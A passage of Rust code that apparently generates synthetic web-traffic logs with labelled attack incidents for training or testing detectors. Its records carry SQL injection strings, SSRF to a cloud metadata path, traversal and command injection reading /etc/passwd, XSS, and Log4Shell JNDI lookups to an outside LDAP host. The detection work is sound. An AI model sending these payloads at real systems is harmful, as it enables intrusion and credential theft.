                "/h5/api/email/code".into(),
                u.mobile_ip,
            )
            .ua(net::BROWSERS[8])
            .json(format!(r#"{{"email":"{}","type":"bind"}}"#, u.person.email))
            .rjson(format!(
                r#"{{"status":"ok","data":{{"email":"{}","email_code":"{code}"}}}}"#,
                u.person.email
            )),
        );
    }
    // file download by path
    for _ in 0..10 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v1/file/download".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .q(format!(
                "file=%2Fdata%2Fexports%2F2025%2F03%2Finvoice_{}.pdf",
                u.id
            ))
            .rh("content-type", "application/pdf".into())
            .rh("content-disposition", "attachment".into()),
        );
    }
    // exception leaks on ordinary use
    for _ in 0..6 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(java_500(
            Rec::new(
                t,
                "shop.example.com",
                "POST",
                "/api/coupons/redeem".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("cookie", format!("SESSIONID={}", u.session))
            .acct(&u.username)
            .json(r#"{"coupon_code":"SPRING2025"}"#.into()),
        ));
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", "/v2/search".into(), u.home_ip)
                .ua(u.ua)
                .h("authorization", format!("Bearer {}", u.jwt))
                .q("q=%E8%80%B3%E6%9C%BA&sort=price%20desc".into())
                .st(500)
                .rbody("text/plain", PY_TRACE.into()),
        );
        let t = c.daytime();
        c.recs.push(
            Rec::new(
                t,
                "shop.example.com",
                "GET",
                "/api/products/search".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .q("keyword=100%25%E7%BA%AF%E6%A3%89".into())
            .st(500)
            .rjson(format!(
                r#"{{"code":500,"msg":{}}}"#,
                serde_json::to_string(MYSQL_ERR).unwrap_or_default()
            )),
        );
    }
    // coupon check: ordinary light use every day
    for _ in 0..30 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(coupon_check(
            t,
            u.home_ip,
            u.ua,
            &values::alnum(&mut c.rng, 8).to_uppercase(),
        ));
    }
    // one day: many IPs and tools hammer the coupon check API
    if day == days / 2 {
        for k in 0..15 {
            let ip = net::ip_in(&mut c.rng, net::CN);
            let ua = net::SCRIPTS[k % net::SCRIPTS.len()];
            let n = c.rng.gen_range(600..1500);
            let h = c.rng.gen_range(10.0..20.0);
            let mins = c.rng.gen_range(5.0..10.0);
            c.burst(h, mins, n, |c, _, t| {
                coupon_check(t, ip, ua, &values::alnum(&mut c.rng, 8).to_uppercase())
            });
        }
    }
}

fn coupon_check(t: i64, ip: Ipv4Addr, ua: &'static str, code: &str) -> Rec {
    Rec::new(
        t,
        "shop.example.com",
        "GET",
        "/api/coupons/check".into(),
        ip,
    )
    .ua(ua)
    .q(format!("code={code}"))
    .rjson(r#"{"code":0,"data":{"valid":false}}"#.into())
}

fn actuator_env(t: i64, ip: Ipv4Addr, ua: &'static str) -> Rec {
    Rec::new(t, "api.example.com", "GET", "/actuator/env".into(), ip)
        .ua(ua)
        .rjson(r#"{"activeProfiles":["prod"],"propertySources":[{"name":"systemProperties","properties":{"java.version":{"value":"1.8.0_372"},"os.name":{"value":"Linux"},"os.version":{"value":"3.10.0-1160.el7.x86_64"},"user.dir":{"value":"/opt/app/order-service"},"java.home":{"value":"/usr/lib/jvm/java-1.8.0-openjdk/jre"}}},{"name":"applicationConfig: [classpath:/application-prod.yml]","properties":{"spring.datasource.url":{"value":"jdbc:mysql://10.12.5.20:3306/order_db?useSSL=false"},"spring.datasource.username":{"value":"order_rw"},"spring.datasource.password":{"value":"******"}}}]}"#.into())
}

fn phpinfo(t: i64, ip: Ipv4Addr, ua: &'static str) -> Rec {
    Rec::new(t, "shop.example.com", "GET", "/phpinfo.php".into(), ip)
        .ua(ua)
        .rbody("text/html; charset=UTF-8", "<!DOCTYPE html><html><head><title>PHP 7.4.33 - phpinfo()</title></head><body><table><tr><td class=\"e\">System </td><td class=\"v\">Linux shop-web-02 3.10.0-1160.el7.x86_64 #1 SMP x86_64 </td></tr><tr><td class=\"e\">Server API </td><td class=\"v\">FPM/FastCGI </td></tr><tr><td class=\"e\">DOCUMENT_ROOT </td><td class=\"v\">/var/www/shop/public </td></tr><tr><td class=\"e\">SERVER_ADDR </td><td class=\"v\">172.16.2.31 </td></tr></table></body></html>".into())
}

/// What an event incident reports about itself.
pub struct Meta {
    pub subject: &'static str,
    pub ip: Option<Ipv4Addr>,
    pub account: Option<String>,
    pub host: &'static str,
    pub method: &'static str,
    pub path: &'static str,
}

fn ipm(ip: Ipv4Addr, host: &'static str, method: &'static str, path: &'static str) -> Meta {
    Meta {
        subject: "ip",
        ip: Some(ip),
        account: None,
        host,
        method,
        path,
    }
}
fn acm(
    ip: Ipv4Addr,
    account: &str,
    host: &'static str,
    method: &'static str,
    path: &'static str,
) -> Meta {
    Meta {
        subject: "account",
        ip: Some(ip),
        account: Some(account.to_string()),
        host,
        method,
        path,
    }
}

type EventFn = fn(&mut Ctx) -> Meta;

/// (event key, needs a baseline (placed on the last day), incident)
pub const EVENTS: &[(&str, bool, EventFn)] = &[
    ("password_bruteforce", false, ev_password_bruteforce),
    ("username_bruteforce", false, ev_username_bruteforce),
    ("dictionary_attack", false, ev_dictionary_attack),
    ("sms_code_bruteforce", false, ev_sms_code_bruteforce),
    ("email_code_bruteforce", false, ev_email_code_bruteforce),
    ("batch_registration", false, ev_batch_registration),
    ("sms_resource_abuse", false, ev_sms_abuse),
    ("email_resource_abuse", false, ev_email_abuse),
    ("batch_download", false, ev_batch_download),
    ("data_crawling", false, ev_data_crawling),
    ("api_attack", false, ev_api_attack_sqlmap),
    ("api_attack", false, ev_api_attack_nuclei),
    (
        "unauthorized_sensitive_access",
        false,
        ev_unauthorized_sensitive,
    ),
    ("mass_sensitive_access", false, ev_mass_sensitive),
    (
        "foreign_mass_sensitive_access",
        false,
        ev_foreign_mass_sensitive,
    ),
    ("error_message_returned", false, ev_error_message),
    ("db_error_returned", false, ev_db_error),
    ("system_info_returned", false, ev_system_info),
    ("abnormal_response", false, ev_abnormal_response),
    (
        "internal_weak_password_login",
        false,
        ev_internal_weak_login,
    ),
    (
        "account_mass_sensitive_access",
        false,
        ev_acct_mass_sensitive,
    ),
    (
        "account_cross_border_sensitive_access",
        false,
        ev_acct_cross_border,
    ),
    ("account_mass_file_download", false, ev_acct_file_download),
    ("account_horizontal_escalation", false, ev_acct_horizontal),
    ("account_data_traversal", false, ev_acct_traversal),
    ("account_high_frequency", false, ev_acct_high_frequency),
    ("account_exception_errors", false, ev_acct_exceptions),
    (
        "account_abnormal_status_codes",
        false,
        ev_acct_abnormal_status,
    ),
    ("account_anomalous_tools", true, ev_acct_tools),
    ("abnormal_high_frequency", true, ev_high_frequency),
    ("internal_api_unusual_ip", true, ev_internal_unusual_ip),
    (
        "internal_api_unusual_location",
        true,
        ev_internal_unusual_location,
    ),
    ("anomalous_tool_access", true, ev_anomalous_tool),
    ("unusual_time_access", true, ev_unusual_time),
    ("abnormal_parameter_values", true, ev_abnormal_params),
];

fn attacker_cn(c: &mut Ctx) -> Ipv4Addr {
    net::ip_in(&mut c.rng, net::CN)
}
fn start_hour(c: &mut Ctx) -> f64 {
    c.rng.gen_range(1.0..21.0)
}
fn pick_user(c: &mut Ctx) -> usize {
    c.rng.gen_range(0..c.w.users.len())
}

fn ev_password_bruteforce(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let target = c.w.users[pick_user(c)].username.clone();
    let n = c.rng.gen_range(400..600);
    let h = start_hour(c);
    c.burst(h, 25.0, n, |c, i, t| {
        let pwd = password_guess(&mut c.rng, i);
        member_login(
            t,
            ip,
            ATTACK_BROWSER,
            &target,
            &pwd,
            if i + 1 == n { 0 } else { 1 },
            990_000 + i as u64,
        )
    });
    ipm(ip, "shop.example.com", "POST", "/api/member/login")
}

fn ev_username_bruteforce(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(300..450);
    let h = start_hour(c);
    let users: Vec<String> = (0..n)
        .map(|i| {
            if i % 3 == 0 {
                values::mobile(&mut c.rng)
            } else {
                format!(
                    "{}{}",
                    ["wang", "li", "zhang", "liu", "chen", "yang", "admin", "test"][i % 8],
                    c.rng.gen_range(1..999)
                )
            }
        })
        .collect();
    c.burst(h, 20.0, n, |_, i, t| {
        member_login(
            t,
            ip,
            "python-requests/2.31.0",
            &users[i],
            "123456",
            if i % 97 == 5 {
                0
            } else if i % 7 == 0 {
                1
            } else {
                2
            },
            980_000 + i as u64,
        )
    });
    ipm(ip, "shop.example.com", "POST", "/api/member/login")
}

fn ev_dictionary_attack(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::KR);
    let n = c.rng.gen_range(500..800);
    let h = start_hour(c);
    c.burst(h, 45.0, n, |c, i, t| {
        let user = if i % 2 == 0 {
            values::mobile(&mut c.rng)
        } else {
            format!(
                "{}{}",
                ["xiaoming", "tom", "lucky", "sunny", "king"][i % 5],
                c.rng.gen_range(1..9999)
            )
        };
        let pwd = password_guess(&mut c.rng, i % 40 + 3);
        member_login(
            t,
            ip,
            ATTACK_BROWSER,
            &user,
            &pwd,
            if i % 4 == 0 { 2 } else { 1 },
            970_000 + i as u64,
        )
    });
    ipm(ip, "shop.example.com", "POST", "/api/member/login")
}

fn ev_sms_code_bruteforce(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let mobile = c.w.users[pick_user(c)].person.mobile.clone();
    let n = c.rng.gen_range(800..1200);
    let h = start_hour(c);
    c.burst(h, 15.0, n, |c, _, t| {
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/login/sms".into(),
            ip,
        )
        .ua("okhttp/4.11.0")
        .json(format!(
            r#"{{"mobile":"{mobile}","sms_code":"{}"}}"#,
            values::digits(&mut c.rng, 6)
        ))
        .rjson(r#"{"code":1003,"msg":"验证码错误或已过期"}"#.into())
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/login/sms")
}

fn ev_email_code_bruteforce(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let u = &c.w.users[pick_user(c)];
    let (email, jwt, ua) = (u.person.email.clone(), u.jwt.clone(), u.ua);
    let n = c.rng.gen_range(600..900);
    let h = start_hour(c);
    c.burst(h, 12.0, n, |c, _, t| {
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/email/verify".into(),
            ip,
        )
        .ua(ua)
        .h("authorization", format!("Bearer {jwt}"))
        .json(format!(
            r#"{{"email":"{email}","code":"{}"}}"#,
            values::digits(&mut c.rng, 6)
        ))
        .rjson(r#"{"code":1004,"msg":"邮箱验证码错误"}"#.into())
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/email/verify")
}

fn ev_batch_registration(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(200..320);
    let h = start_hour(c);
    c.burst(h, 60.0, n, |c, i, t| {
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/register".into(),
            ip,
        )
        .ua(net::APPS[1])
        .json(format!(
            r#"{{"mobile":"{}","sms_code":"{}","password":"{}","invite_code":"YQ8K2M"}}"#,
            values::mobile(&mut c.rng),
            values::digits(&mut c.rng, 6),
            super::normal::rsa_blob(&mut c.rng)
        ))
        .rjson(format!(
            r#"{{"code":0,"msg":"success","data":{{"user_id":{}}}}}"#,
            410_000 + i
        ))
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/register")
}

fn ev_sms_abuse(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let victim = values::mobile(&mut c.rng);
    let n = c.rng.gen_range(500..800);
    let h = start_hour(c);
    c.burst(h, 30.0, n, |c, i, t| {
        let m = if i % 10 < 7 {
            victim.clone()
        } else {
            values::mobile(&mut c.rng)
        };
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/sms/send".into(),
            ip,
        )
        .ua("python-requests/2.31.0")
        .json(format!(r#"{{"mobile":"{m}","scene":"register"}}"#))
        .rjson(r#"{"code":0,"msg":"验证码已发送","data":{"expire":300}}"#.into())
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/sms/send")
}

fn ev_email_abuse(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::US);
    let victims: Vec<String> = (0..3).map(|_| Person::generate(&mut c.rng).email).collect();
    let n = c.rng.gen_range(400..600);
    let h = start_hour(c);
    c.burst(h, 30.0, n, |_, i, t| {
        Rec::new(
            t,
            "passport.example.com",
            "POST",
            "/api/v1/email/send".into(),
            ip,
        )
        .ua("Go-http-client/1.1")
        .json(format!(
            r#"{{"email":"{}","scene":"bind_email"}}"#,
            victims[i % 3]
        ))
        .rjson(r#"{"code":0,"msg":"邮件已发送"}"#.into())
    });
    ipm(ip, "passport.example.com", "POST", "/api/v1/email/send")
}

fn ev_batch_download(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let u = &c.w.users[pick_user(c)];
    let (jwt, files) = (u.jwt.clone(), &c.w.files);
    let n = c.rng.gen_range(600..900);
    let h = start_hour(c);
    c.burst(h, 40.0, n, |c, i, t| {
        let id = &files[i % files.len()];
        Rec::new(
            t,
            "api.example.com",
            "GET",
            format!("/v1/files/{id}/download"),
            ip,
        )
        .ua("Wget/1.21.3")
        .h("authorization", format!("Bearer {jwt}"))
        .rh("content-type", "application/pdf".into())
        .rh(
            "content-disposition",
            format!("attachment; filename=\"invoice_{}.pdf\"", &id[..8]),
        )
        .rh(
            "content-length",
            c.rng.gen_range(30_000..900_000).to_string(),
        )
    });
    ipm(ip, "api.example.com", "GET", "/v1/files/{id}/download")
}

fn user_public(c: &mut Ctx, id: u64) -> String {
    let i = ((id.saturating_sub(100_001)) / 7) as usize % c.w.users.len();
    let u = &c.w.users[i];
    format!(
        r#"{{"code":0,"msg":"success","data":{{"id":{id},"username":"{}","mobile":"{}","avatar":"/static/avatar/{}.jpg"}}}}"#,
        u.username,
        mask_mobile(&u.person.mobile),
        id % 97
    )
}

fn ev_data_crawling(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let first = c.rng.gen_range(100_001..120_000u64);
    let n = c.rng.gen_range(1500..2500);
    let h = start_hour(c);
    c.burst(h, 50.0, n, |c, i, t| {
        let id = first + i as u64;
        let body = user_public(c, id);
        Rec::new(t, "api.example.com", "GET", format!("/v1/users/{id}"), ip)
            .ua("python-requests/2.28.2")
            .rjson(body)
    });
    ipm(ip, "api.example.com", "GET", "/v1/users/{id}")
}

fn ev_api_attack_sqlmap(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::DE);
    const P: &[&str] = &[
        "1' AND 1=1-- -", "1' AND SLEEP(5)-- -", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7171,user(),0x7171)-- -",
        "1') AND EXTRACTVALUE(1,CONCAT(0x5c,version()))-- -", "1' OR '1'='1", "1;WAITFOR DELAY '0:0:5'--",
        "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))",
    ];
    let n = c.rng.gen_range(300..500);
    let h = start_hour(c);
    c.burst(h, 20.0, n, |c, i, t| {
        let payload = P[i % P.len()];
        let q = form_urlencoded::Serializer::new(String::new())
            .append_pair("keyword", payload)
            .append_pair("page", "1")
            .finish();
        let r = Rec::new(
            t,
            "shop.example.com",
            "GET",
            "/api/products/search".into(),
            ip,
        )
        .ua(SQLMAP)
        .q(q);
        if c.rng.gen_bool(0.75) {
            r.st(403).waf("block", "SQL Injection").rbody(
                "text/html",
                "<html><body><h1>403 Forbidden</h1>Request blocked by WAF</body></html>".into(),
            )
        } else {
            r.st(200)
                .waf("monitor", "SQL Injection")
                .rjson(r#"{"code":0,"data":{"total":0,"list":[]}}"#.into())
        }
    });
    ipm(ip, "shop.example.com", "GET", "/api/products/search")
}

fn ev_api_attack_nuclei(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::US);
    let n = c.rng.gen_range(250..400);
    let h = start_hour(c);
    c.burst(h, 15.0, n, |c, i, t| {
        let (host, path, q, rule): (&'static str, String, String, &'static str) = match i % 6 {
            0 => ("api.example.com", "/v1/link/preview".into(), "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F".into(), "SSRF"),
            1 => ("api.example.com", "/v1/file/download".into(), "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd".into(), "Path Traversal"),
            2 => ("shop.example.com", "/api/search".into(), "keyword=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E".into(), "XSS"),
            3 => ("admin.example.com", "/admin/api/ops/exec".into(), "cmd=%3Bcat%20%2Fetc%2Fpasswd".into(), "Command Injection"),
            4 => ("api.example.com", "/v2/search".into(), "q=%24%7Bjndi%3Aldap%3A%2F%2F45.83.64.1%3A1389%2FExploit%7D".into(), "Log4Shell"),
            _ => ("shop.example.com", "/static/..%2f..%2f..%2f..%2fetc%2fshadow".to_string(), String::new(), "Path Traversal"),
        };
        let mut r = Rec::new(t, host, "GET", path, ip).ua(NUCLEI).h("x-api-version", "${jndi:ldap://45.83.64.1:1389/a}".into());
        if !q.is_empty() {
            r = r.q(q);
        }
        if c.rng.gen_bool(0.6) {
            r.st(403).waf("block", rule)
        } else if i % 6 == 1 {
            // the traversal that got through
            r.st(200).waf("monitor", rule).rbody("application/octet-stream", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n".into())
        } else {
            r.st(404).waf("monitor", rule)
        }
    });
    ipm(ip, "api.example.com", "GET", "/v1/file/download")
}

/// An order-detail endpoint that forgot its session check: every customer calls it with a
/// session, an intruder without one walks recent order numbers and gets receivers' addresses.
fn ev_unauthorized_sensitive(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(300..500);
    let h = start_hour(c);
    c.burst(h, 30.0, n, |c, _, t| {
        let p = &c.w.users[c.rng.gen_range(0..c.w.users.len())].person;
        let back = c.rng.gen_range(0..3 * 86_400_000);
        let no = order_no(&mut c.rng, t - back);
        let body = order_detail(&mut c.rng, p, &no);
        Rec::new(
            t,
            "shop.example.com",
            "GET",
            format!("/api/orders/{no}"),
            ip,
        )
        .ua("python-requests/2.31.0")
        .rjson(body)
    });
    ipm(ip, "shop.example.com", "GET", "/api/orders/{id}")
}

fn partner_members(
    c: &mut Ctx,
    ip: Ipv4Addr,
    pages: u32,
    minutes: f64,
    ua: &'static str,
    key: String,
) {
    let h = start_hour(c);
    c.burst(h, minutes, pages as usize, |c, i, t| {
        Rec::new(
            t,
            "partner.example.com",
            "GET",
            "/openapi/v1/members".into(),
            ip,
        )
        .ua(ua)
        .h("x-app-key", key.clone())
        .h("x-timestamp", (t / 1000).to_string())
        .h("x-sign", values::hex(&mut c.rng, 64))
        .q(format!("page={}&page_size=100", i + 1))
        .rjson(members_page(c.w, i as u32 + 1, 100))
    });
}

fn ev_mass_sensitive(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let key = c.w.partners[2].app_key.clone();
    let pages = c.rng.gen_range(150..250);
    partner_members(c, ip, pages, 60.0, "python-requests/2.31.0", key);
    ipm(ip, "partner.example.com", "GET", "/openapi/v1/members")
}

fn ev_foreign_mass_sensitive(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::US);
    let key = c.w.partners[3].app_key.clone();
    let pages = c.rng.gen_range(80..140);
    partner_members(c, ip, pages, 40.0, "Go-http-client/1.1", key);
    ipm(ip, "partner.example.com", "GET", "/openapi/v1/members")
}

fn ev_error_message(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(120..200);
    let h = start_hour(c);
    c.burst(h, 10.0, n, |c, _, t| {
        let sort = ["price%20desc", "%27", "%5B%5D", "null", "-1"][c.rng.gen_range(0..5)];
        Rec::new(t, "api.example.com", "GET", "/v2/search".into(), ip)
            .ua("curl/8.4.0")
            .q(format!("q=test&sort={sort}"))
            .st(500)
            .rbody("text/plain", PY_TRACE.into())
    });
    ipm(ip, "api.example.com", "GET", "/v2/search")
}

fn ev_db_error(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(100..160);
    let h = start_hour(c);
    c.burst(h, 10.0, n, |c, i, t| {
        let kw = ["%27", "%22", "%5C", "%27%29", "1%27%20ORDER%20BY%203--"][i % 5];
        let _ = &c.rng;
        Rec::new(
            t,
            "shop.example.com",
            "GET",
            "/api/products/search".into(),
            ip,
        )
        .ua(ATTACK_BROWSER)
        .q(format!("keyword={kw}&page=1"))
        .st(500)
        .rjson(format!(
            r#"{{"code":500,"msg":{}}}"#,
            serde_json::to_string(MYSQL_ERR).unwrap_or_default()
        ))
    });
    ipm(ip, "shop.example.com", "GET", "/api/products/search")
}

fn ev_system_info(c: &mut Ctx) -> Meta {
    let ip = net::ip_in(&mut c.rng, net::SG);
    let n = c.rng.gen_range(60..100);
    let h = start_hour(c);
    c.burst(h, 8.0, n, |_, i, t| match i % 4 {
        0 => actuator_env(t, ip, "curl/8.4.0"),
        1 => phpinfo(t, ip, "curl/8.4.0"),
        2 => Rec::new(t, "api.example.com", "GET", "/.env".into(), ip)
            .ua("curl/8.4.0")
            .st(404),
        _ => Rec::new(t, "shop.example.com", "GET", "/server-status".into(), ip)
            .ua("curl/8.4.0")
            .st(403),
    });
    ipm(ip, "api.example.com", "GET", "/actuator/env")
}

fn ev_abnormal_response(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let u = &c.w.users[pick_user(c)];
    let jwt = u.jwt.clone();
    let n = c.rng.gen_range(400..700);
    let h = start_hour(c);
    c.burst(h, 120.0, n, |c, i, t| {
        let dev = 3000 + i % 5;
        let r = Rec::new(
            t,
            "api.example.com",
            "GET",
            format!("/v1/devices/{dev}/status"),
            ip,
        )
        .ua("okhttp/3.12.1")
        .h("authorization", format!("Bearer {jwt}"));
        if c.rng.gen_bool(0.9) {
            r.st(401)
                .rjson(r#"{"code":401,"msg":"token expired"}"#.into())
        } else {
            r.rjson(r#"{"code":0,"data":{"online":true}}"#.into())
        }
    });
    ipm(ip, "api.example.com", "GET", "/v1/devices/{id}/status")
}

fn ev_internal_weak_login(c: &mut Ctx) -> Meta {
    let ip = attacker_cn(c);
    let n = c.rng.gen_range(40..70);
    let h = start_hour(c);
    let names: Vec<(String, String)> = (0..n)
        .map(|i| {
            let e = &c.w.employees[(i * 7) % c.w.employees.len()];
            (e.username.clone(), e.session.clone())
        })
        .collect();
    c.burst(h, 20.0, n, |_, i, t| {
        let (u, s) = &names[i];
        oa_login(t, ip, ATTACK_BROWSER, u, WEAK[i % 4], i % 9 == 4, s)
    });
    ipm(ip, "oa.example.com", "POST", "/sso/login")
}

fn ev_acct_mass_sensitive(c: &mut Ctx) -> Meta {
    let mi = c.w.merchants[1];
    let u = &c.w.users[mi];
    let (ip, jwt, ua, name) = (u.home_ip, u.jwt.clone(), u.ua, u.username.clone());
    let pages = c.rng.gen_range(120..200);
    let h = c.rng.gen_range(9.0..16.0);
    c.burst(h, 150.0, pages, |c, i, t| {
        let body = merchant_customers(c.w, &mut c.rng, i as u32 + 1, 50);
        Rec::new(
            t,
            "api.example.com",
            "GET",
            "/v1/merchant/customers".into(),
            ip,
        )
        .ua(ua)
        .h("authorization", format!("Bearer {jwt}"))
        .q(format!("page={}&page_size=50", i + 1))
        .rjson(body)
    });
    acm(
        ip,
        &name,
        "api.example.com",
        "GET",
        "/v1/merchant/customers",
    )
}

fn ev_acct_cross_border(c: &mut Ctx) -> Meta {
    let mi = c.w.merchants[2];
    let u = &c.w.users[mi];
    let (jwt, name) = (u.jwt.clone(), u.username.clone());
    let ip = net::ip_in(&mut c.rng, net::JP);
    let pages = c.rng.gen_range(50..90);
    let h = start_hour(c);
    c.burst(h, 45.0, pages, |c, i, t| {
        let body = merchant_customers(c.w, &mut c.rng, i as u32 + 1, 50);
        Rec::new(
            t,
            "api.example.com",
            "GET",
            "/v1/merchant/customers".into(),
            ip,
        )
        .ua(net::SCRIPTS[0])
        .h("authorization", format!("Bearer {jwt}"))
        .q(format!("page={}&page_size=50", i + 1))
        .rjson(body)
    });
    acm(
        ip,
        &name,
        "api.example.com",
        "GET",
        "/v1/merchant/customers",
    )
}

fn ev_acct_file_download(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, jwt, ua, name) = (u.home_ip, u.jwt.clone(), u.ua, u.username.clone());
    let n = c.rng.gen_range(400..700);
    let h = c.rng.gen_range(9.0..20.0);
    c.burst(h, 60.0, n, |c, i, t| {
        let id = &c.w.files[(i * 3) % c.w.files.len()];
        Rec::new(
            t,
            "api.example.com",
            "GET",
            format!("/v1/files/{id}/download"),
            ip,
        )
        .ua(ua)
        .h("authorization", format!("Bearer {jwt}"))
        .rh("content-type", "application/pdf".into())
        .rh(
            "content-disposition",
            format!("attachment; filename=\"invoice_{}.pdf\"", &id[..8]),
        )
        .rh(
            "content-length",
            c.rng.gen_range(30_000..900_000).to_string(),
        )
    });
    acm(
        ip,
        &name,
        "api.example.com",
        "GET",
        "/v1/files/{id}/download",
    )
}

fn ev_acct_horizontal(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, session, ua, name) = (u.home_ip, u.session.clone(), u.ua, u.username.clone());
    let n = c.rng.gen_range(250..400);
    let h = c.rng.gen_range(9.0..21.0);
    c.burst(h, 40.0, n, |c, _, t| {
        let v = &c.w.users[c.rng.gen_range(0..c.w.users.len())];
        let p = &v.person;
        Rec::new(t, "shop.example.com", "GET", "/api/user/addresses".into(), ip)
            .ua(ua)
            .h("cookie", format!("SESSIONID={session}"))
            .acct(&name)
            .q(format!("user_id={}", v.id))
            .rjson(format!(r#"{{"code":0,"msg":"success","data":[{{"address_id":{},"receiver":"{}","phone":"{}","province":"{}","city":"{}","detail":"{}","is_default":true}}]}}"#, v.id * 10 + 1, p.name, p.mobile, p.province, p.city, p.address))
    });
    acm(ip, &name, "shop.example.com", "GET", "/api/user/addresses")
}

fn ev_acct_traversal(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, jwt, name) = (u.home_ip, u.jwt.clone(), u.username.clone());
    let first = c.rng.gen_range(50_001..50_500u64);
    let n = c.rng.gen_range(1200..1800);
    let h = c.rng.gen_range(9.0..20.0);
    c.burst(h, 60.0, n, |_, i, t| {
        let id = first + i as u64;
        Rec::new(t, "api.example.com", "GET", format!("/v1/articles/{id}"), ip)
            .ua("python-requests/2.31.0")
            .h("authorization", format!("Bearer {jwt}"))
            .rjson(format!(r#"{{"code":0,"msg":"success","data":{{"id":{id},"title":"会员积分规则调整公告","content":"……"}}}}"#))
    });
    acm(ip, &name, "api.example.com", "GET", "/v1/articles/{id}")
}

fn ev_acct_high_frequency(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, jwt, ua, name) = (u.home_ip, u.jwt.clone(), u.ua, u.username.clone());
    let n = c.rng.gen_range(2000..3000);
    let h = c.rng.gen_range(9.0..20.0);
    c.burst(h, 25.0, n, |_, _, t| {
        Rec::new(t, "api.example.com", "GET", "/v2/messages".into(), ip)
            .ua(ua)
            .h("authorization", format!("Bearer {jwt}"))
            .q("page=1&limit=20".into())
            .rjson(r#"{"code":0,"msg":"success","data":{"unread":0,"messages":[]}}"#.into())
    });
    acm(ip, &name, "api.example.com", "GET", "/v2/messages")
}

fn ev_acct_exceptions(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, session, ua, name) = (u.home_ip, u.session.clone(), u.ua, u.username.clone());
    let n = c.rng.gen_range(150..250);
    let h = c.rng.gen_range(9.0..21.0);
    c.burst(h, 30.0, n, |c, _, t| {
        let len = c.rng.gen_range(3..20);
        let code = values::alnum(&mut c.rng, len);
        java_500(
            Rec::new(
                t,
                "shop.example.com",
                "POST",
                "/api/coupons/redeem".into(),
                ip,
            )
            .ua(ua)
            .h("cookie", format!("SESSIONID={session}"))
            .acct(&name)
            .json(format!(r#"{{"coupon_code":"{code}"}}"#)),
        )
    });
    acm(ip, &name, "shop.example.com", "POST", "/api/coupons/redeem")
}

fn ev_acct_abnormal_status(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, jwt, ua) = (u.home_ip, u.jwt.clone(), u.ua);
    let name = u.username.clone();
    let n = c.rng.gen_range(300..500);
    let h = c.rng.gen_range(9.0..21.0);
    c.burst(h, 40.0, n, |c, _, t| {
        let v = &c.w.users[c.rng.gen_range(0..c.w.users.len())];
        let r = Rec::new(
            t,
            "api.example.com",
            "GET",
            format!("/v2/users/{}/orders", v.uuid),
            ip,
        )
        .ua(ua)
        .h("authorization", format!("Bearer {jwt}"))
        .q("page=1&page_size=20".into());
        if c.rng.gen_bool(0.9) {
            r.st(403).rjson(r#"{"code":403,"msg":"forbidden"}"#.into())
        } else {
            r.st(500)
                .rjson(r#"{"code":500,"msg":"internal error"}"#.into())
        }
    });
    acm(
        ip,
        &name,
        "api.example.com",
        "GET",
        "/v2/users/{uuid}/orders",
    )
}

fn ev_acct_tools(c: &mut Ctx) -> Meta {
    let u = &c.w.users[pick_user(c)];
    let (ip, jwt, name) = (u.home_ip, u.jwt.clone(), u.username.clone());
    let uuid = u.uuid.clone();
    let n = c.rng.gen_range(300..500);
    let h = c.rng.gen_range(9.0..21.0);
    c.burst(h, 60.0, n, |_, i, t| {
        Rec::new(
            t,
